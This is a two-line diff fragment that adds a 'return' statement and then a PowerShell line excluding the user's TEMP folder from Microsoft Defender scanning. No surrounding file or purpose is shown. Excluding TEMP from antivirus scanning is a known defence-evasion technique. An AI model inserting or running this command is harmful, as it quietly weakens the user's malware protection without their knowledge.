@@ -1,0 +1,2 @@
+return
+Add-MpPreference -ExclusionPath $env:TEMP
